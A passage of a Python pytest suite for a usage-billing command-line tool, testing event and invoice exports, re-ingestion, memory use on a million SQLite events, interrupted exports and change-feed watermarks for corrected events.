    assert (again["accepted"], again["rejected"]) == (len(EVENTS) + len(hostile), 0)
    copied = {
        row["idempotency_key"]: row
        for row in map(
            orjson.loads,
            exported(cli, "events", "--format", "jsonl", project="beta").stdout.splitlines(),
        )
    }
    assert {name: copied["@evil"]["properties"][name] for name in HOSTILE} == HOSTILE


# --------------------------------------------------------------------------- round trip


@pytest.mark.parametrize("name", ["events.csv", "events.jsonl.gz"])
def test_exported_events_bill_the_same_in_a_new_project(
    shop: dict[str, Any], tmp_path: Path, name: str
) -> None:
    """Export → ingest into a project with the same setup → run bill → the same invoices."""
    cli = shop["cli"]
    path = tmp_path / name
    assert to_file(cli, "events", path)["rows"] == len(EVENTS)
    set_up(cli, tmp_path, "beta")
    report = ok(cli, "ingest", str(path), project="beta")
    assert (report["accepted"], report["rejected"], report["conflicts"]) == (len(EVENTS), 0, 0)
    bill(cli, project="beta")

    def invoices(project: str) -> list[dict[str, Any]]:
        rows = exported(cli, "invoices", "--format", "jsonl", project=project).stdout
        keep = ("customer", "status", "subtotal", "credits_applied", "total", "amount_due")
        return [{k: orjson.loads(r)[k] for k in keep} for r in rows.splitlines()]

    def lines(project: str) -> list[dict[str, Any]]:
        rows = exported(cli, "lines", "--format", "jsonl", project=project).stdout
        return [
            {k: v for k, v in orjson.loads(r).items() if k != "invoice"} for r in rows.splitlines()
        ]

    before_payment = invoices("acme")
    before_payment[0].update(status="finalized", amount_due="50.25")  # before acme's payment
    assert invoices("beta") == before_payment
    assert lines("beta") == lines("acme")
    assert exported(cli, "usage", project="beta").stdout == exported(cli, "usage").stdout


def test_jsonl_export_is_the_stored_events_byte_for_byte(
    shop: dict[str, Any], tmp_path: Path
) -> None:
    """Imported again into its own project, every line is a duplicate, never a conflict."""
    cli = shop["cli"]
    to_file(cli, "events", tmp_path / "all.jsonl")
    report = ok(cli, "ingest", str(tmp_path / "all.jsonl"))
    assert (report["duplicates"], report["conflicts"], report["accepted"]) == (len(EVENTS), 0, 0)


# --------------------------------------------------------------------------- memory (SQLite)

LAUNCHER = """
import os, resource, sys
pid = os.fork()
if pid == 0:
    os.execv(sys.argv[1], sys.argv[1:])
_, status, usage = os.wait4(pid, 0)
print(usage.ru_maxrss, os.waitstatus_to_exitcode(status))
"""


def peak_rss_kib(*argv: str) -> int:
    """The command's own peak RSS: a small launcher forks and execs it, then reads the rusage
    of that one child (spawned from pytest, the child would carry pytest's size: Linux keeps
    the high-water mark across exec)."""
    done = subprocess.run(
        [sys.executable, "-S", "-c", LAUNCHER, *argv], capture_output=True, text=True, check=True
    )
    rss, code = done.stdout.split()
    assert code == "0", done.stderr
    return int(rss)


@pytest.fixture(scope="module")
def million(tmp_path_factory: pytest.TempPathFactory) -> str:
    """A SQLite database with 1,000,000 events (a third with properties), inserted with
    SQLAlchemy Core's executemany in batches."""
    folder = tmp_path_factory.mktemp("million")
    url = f"sqlite:///{folder / 'big.db'}"
    engine = create_db_engine(url)
    migrate.upgrade(engine)
    now = datetime.now(UTC)
    with engine.begin() as conn:
        conn.execute(insert(projects_t).values(
            id="proj_big", slug="big", name="big", currency="USD", timezone="UTC",
            rounding="half_even", created_at=now,
        ))  # fmt: skip
        conn.execute(insert(customers_t), [
            {"id": f"cus_{n}", "project_id": "proj_big", "external_id": f"c{n}",
             "currency": "USD", "timezone": "UTC", "created_at": now, "updated_at": now}
            for n in range(10)
        ])  # fmt: skip
    sql = (
        "INSERT INTO events (project_id, idempotency_key, customer_id, meter, ts, quantity,"
        " properties, payload_hash, received_at) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?)"
    )
    days = [f"2026-10-{day:02d} " for day in range(1, 32)]  # four events a second
    with engine.begin() as conn:
        conn.exec_driver_sql("PRAGMA cache_size = -262144")  # 256 MiB: the indexes fit
        for first in range(0, 1_000_000, 50_000):
            rows = []
            for n in range(first, first + 50_000):
                day, second = divmod(n // 4, 86400)
                hour, second = divmod(second, 3600)
                stamp = f"{days[day]}{hour:02d}:{second // 60:02d}:{second % 60:02d}.000000"
                rows.append((
                    "proj_big", f"evt-{n:07d}", f"cus_{n % 10}", "api_calls", stamp, str(n % 7),
                    '{"region":"eu"}' if n % 3 == 0 else "{}", "0" * 64,
                    "2026-11-01 00:00:00.000000",
                ))  # fmt: skip
            conn.exec_driver_sql(sql, rows)
    engine.dispose()
    return url


def neruba_argv(url: str, *args: str) -> list[str]:
    return [sys.executable, "-m", "neruba_cli", "export", "events", *args,
            "--db", url, "--project", "big", "--quiet"]  # fmt: skip


@pytest.mark.slow
def test_memory_stays_flat_for_a_million_events(million: str, tmp_path: Path) -> None:
    small = peak_rss_kib(*neruba_argv(million, "--since", "900000", "-o", str(tmp_path / "s.csv")))
    large = peak_rss_kib(*neruba_argv(million, "-o", str(tmp_path / "l.csv")))
    with open(tmp_path / "l.csv", "rb") as handle:
        assert sum(1 for _ in handle) == 1_000_001
    with open(tmp_path / "s.csv", "rb") as handle:
        assert sum(1 for _ in handle) == 100_001
    print(f"peak RSS: 100k events {small / 1024:.0f} MiB, 1M events {large / 1024:.0f} MiB")
    assert large <= 1.5 * small, (small, large)
    assert large - small < 24 * 1024, (small, large)  # KiB: ten times the rows, not the memory


@pytest.mark.slow
def test_a_killed_export_leaves_the_previous_file(million: str, tmp_path: Path) -> None:
    target = tmp_path / "events.jsonl"
    target.write_text("the previous complete export\n")
    env = {k: v for k, v in os.environ.items() if not k.startswith("NERUBA_")}
    argv = neruba_argv(million, "--format", "jsonl", "-o", str(target), "--name", "n")
    child = subprocess.Popen(argv, cwd=REPO, env=env, stderr=subprocess.PIPE)
    deadline = time.monotonic() + 60

    def temporary_size() -> int:
        found = list(tmp_path.glob(".events.jsonl.*.tmp"))
        return found[0].stat().st_size if found else 0

    while temporary_size() <= 1 << 20:
        assert child.poll() is None, child.stderr.read() if child.stderr else ""
        assert time.monotonic() < deadline
        time.sleep(0.01)
    child.send_signal(signal.SIGKILL)
    child.wait()
    assert target.read_text() == "the previous complete export\n"
    engine = create_db_engine(million)
    try:
        assert stored(engine, "n", "events") is None
    finally:
        engine.dispose()


def _feed(path: Path) -> list[dict[str, Any]]:
    return [orjson.loads(line) for line in path.read_bytes().splitlines()]


def test_named_event_exports_carry_corrections(
    shop: dict[str, Any], tmp_path: Path, engine: Engine
) -> None:
    """The worked example of docs/guides/exports.md: an amended event comes again with its
    new version, a voided one with voided=true, and a replay with no change is empty."""
    cli = shop["cli"]
    first = to_file(cli, "events", tmp_path / "f1.jsonl", "--name", "wh")
    rows = _feed(tmp_path / "f1.jsonl")
    assert len(rows) == len(EVENTS) and {(r["version"], r["voided"]) for r in rows} == {(1, False)}
    assert list(rows[0])[-2:] == ["version", "voided"]

    ok(cli, "events", "amend", "c2-call-0", "--quantity", "3", "--reason", "meter fix")
    second = to_file(cli, "events", tmp_path / "f2.jsonl", "--name", "wh")
    assert second["since"] == first["watermark"] and second["rows"] == 1
    [amended] = _feed(tmp_path / "f2.jsonl")
    assert (amended["idempotency_key"], amended["quantity"]) == ("c2-call-0", "3")
    assert (amended["version"], amended["voided"]) == (2, False)
    assert second["watermark"].split(":")[0] == first["watermark"].split(":")[0]
    assert stored(engine, "wh", "events") == second["watermark"]

    ok(cli, "events", "void", "c2-call-0", "--reason", "duplicate")
    third = to_file(cli, "events", tmp_path / "f3.csv", "--name", "wh")
    [voided] = list(csv.DictReader(io.StringIO((tmp_path / "f3.csv").read_text())))
    assert (voided["idempotency_key"], voided["quantity"]) == ("c2-call-0", "3")
    assert (voided["version"], voided["voided"]) == ("3", "true")

    replay = to_file(cli, "events", tmp_path / "f4.jsonl", "--name", "wh")
    assert (replay["rows"], replay["watermark"]) == (0, third["watermark"])
    assert (tmp_path / "f4.jsonl").read_bytes() == b""

    # the watermark printed by a run works as --since: the same corrections again
    again = _feed_since(cli, tmp_path, first["watermark"])
    assert [(r["idempotency_key"], r["version"], r["voided"]) for r in again] == [
        ("c2-call-0", 3, True)
    ]
    # a plain id (an events watermark from before corrections were exported) counts every
    # correction as new; a time, events received or corrected since
    plain = _feed_since(cli, tmp_path, first["watermark"].split(":")[0])
    assert [r["idempotency_key"] for r in plain] == ["c2-call-0"]
    assert [r["idempotency_key"] for r in _feed_since(cli, tmp_path, shop["at"])] == ["c2-call-0"]

    # a full export: current values, voided events left out, no change-feed columns
    full = jsonl_rows(cli, "events")
    assert "c2-call-0" not in {r["idempotency_key"] for r in full}
    assert len(full) == len(EVENTS) - 1 and "version" not in full[0]


def _feed_since(cli: Cli, tmp_path: Path, since: str) -> list[dict[str, Any]]:
    path = tmp_path / "since.jsonl"
    path.unlink(missing_ok=True)
    to_file(cli, "events", path, "--since", since)
    return _feed(path)


def test_a_replace_reaches_a_named_event_export(shop: dict[str, Any], tmp_path: Path) -> None:
    cli = shop["cli"]
    first = to_file(cli, "events", tmp_path / "f1.csv", "--name", "wh")
    window = [e for e in EVENTS if e["idempotency_key"] in ("c2-call-1", "c2-call-2")]
    truth = [
        {**window[0], "quantity": 5},  # amended
        window[1],  # unchanged
        _event("c2-call-9", "c2", "api_calls", "2026-10-22T18:00:00Z"),  # new
    ]  # c2-call-0 and c2-call-3 are not in the file: voided
    path = tmp_path / "truth.jsonl"
    path.write_bytes(b"".join(orjson.dumps(e) + b"\n" for e in truth))
    ok(cli, "ingest", str(path), "--replace", "--customer", "c2", "--meter", "api_calls",
       "--from", "2026-10-20T00:00:00Z", "--to", "2026-10-24T00:00:00Z",
       "--reason", "resent", project="acme")  # fmt: skip
    second = to_file(cli, "events", tmp_path / "f2.jsonl", "--name", "wh")
    assert second["since"] == first["watermark"]
    got = {
        r["idempotency_key"]: (r["quantity"], r["version"], r["voided"])
        for r in _feed(tmp_path / "f2.jsonl")
    }
    assert got == {
        "c2-call-0": ("1.25", 2, True),
        "c2-call-1": ("5", 2, False),
        "c2-call-3": ("1", 2, True),
        "c2-call-9": ("1", 1, False),
    }
    assert to_file(cli, "events", tmp_path / "f3.jsonl", "--name", "wh")["rows"] == 0


def test_an_event_corrected_during_a_run_is_exported_once(
    shop: dict[str, Any], tmp_path: Path, engine: Engine
) -> None:
    """A correction the run's high-water mark does not cover waits for the next run, even when
    the rows are read after it committed: each version is exported once."""
    cli = shop["cli"]
    to_file(cli, "events", tmp_path / "f1.jsonl", "--name", "wh")
    with Session(engine, expire_on_commit=False) as session:
        project = session.scalars(select(Project).where(Project.slug == "acme")).one()
        session.expunge(project)
    request = ExportRequest(kind="events", fmt="jsonl", name="wh")
    plan = watermarks.make_plan(engine, project, request, now=datetime.now(UTC))
    ok(cli, "events", "amend", "c2-call-1", "--quantity", "7", "--reason", "late fix")
    out = io.BytesIO()
    assert writing.write(engine, plan, out, lambda _: None) == 0
    later = to_file(cli, "events", tmp_path / "f2.jsonl", "--name", "wh")
    assert later["rows"] == 1
    assert [(r["idempotency_key"], r["version"]) for r in _feed(tmp_path / "f2.jsonl")] == [
        ("c2-call-1", 2)
    ]
